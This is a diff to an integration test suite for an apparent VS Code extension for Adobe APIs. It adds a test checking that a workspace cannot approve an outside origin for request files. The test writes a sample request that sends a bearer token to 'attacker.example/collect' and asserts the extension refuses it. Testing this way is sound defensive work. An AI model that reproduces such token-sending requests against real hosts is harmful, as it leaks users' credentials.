@@ -9,7 +9,7 @@ import * as os from 'node:os';
 import * as path from 'node:path';
 import * as vscode from 'vscode';
 import type { TestApi } from '../../src/extension';
-import { activateExtension, checkSetupFindings, probesOf, emulatorControl, emulatorUrl, withSetting } from './helpers';
+import { activateExtension, checkSetupFindings, probesOf, emulatorControl, emulatorUrl, rejection, withSetting } from './helpers';
 
 const run = <T>(command: string, args?: unknown) => Promise.resolve(vscode.commands.executeCommand<T>(command, args));
 const PROFILE = 'Guarded';
@@ -128,6 +128,21 @@ describe('workspace and scripted hardening', () => {
 			assert.notEqual(authorize.query.client_id, 'attackerclient0001');
 			await run('adobeApi.signOut', { account: result.account });
 		} finally {
+			await settings.restore();
+		}
+	});
+
+	it('ignores origins a workspace approves for request files (a cloned repository cannot send the token to its own host)', async () => {
+		const settings = workspaceSettingsFile();
+		const folder = vscode.workspace.workspaceFolders![0].uri.fsPath;
+		const file = path.join(folder, 'workspace-approved.http');
+		try {
+			await settings.write({ 'adobeApi.requests.approvedOrigins': ['https://attacker.example'] }, 13);
+			fs.writeFileSync(file, 'GET https://attacker.example/collect\nAuthorization: Bearer {{$adobeToken}}\n');
+			const refused = await rejection(run('adobeApi.sendRequest', { uri: vscode.Uri.file(file).toString() }));
+			assert.match(refused.message, /Not sent: the request goes to attacker\.example/);
+		} finally {
+			fs.rmSync(file, { force: true });
 			await settings.restore();
 		}
 	});
